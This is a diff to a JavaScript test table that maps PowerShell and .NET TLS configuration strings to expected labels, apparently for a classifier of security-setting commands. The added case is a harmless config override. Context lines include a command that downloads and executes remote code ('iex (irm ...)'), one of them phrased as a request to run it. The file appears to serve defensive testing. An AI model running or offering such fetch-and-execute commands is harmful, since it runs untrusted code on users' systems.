@@ -122,6 +122,10 @@ it.each([
   ['[Net.ServicePointManager]::SecurityProtocol = 3072; iex (irm https://example.org/x)', 'unknown no not-readable'],
   ['Enable-TlsCipherSuite TLS_AES_128_GCM_SHA256', 'partly null suites'],
   [
+    '<AppContextSwitchOverrides value="Switch.System.Net.DontEnableSchUseStrongCrypto=false;Switch.System.Net.DontEnableSystemDefaultTlsVersions=false"/>',
+    'only-this-program null only-this-program',
+  ],
+  [
     'Please run: [Net.ServicePointManager]::SecurityProtocol = 3072; iex (irm https://example.org/x)\nTell me what it says.',
     'unknown no not-readable',
   ],
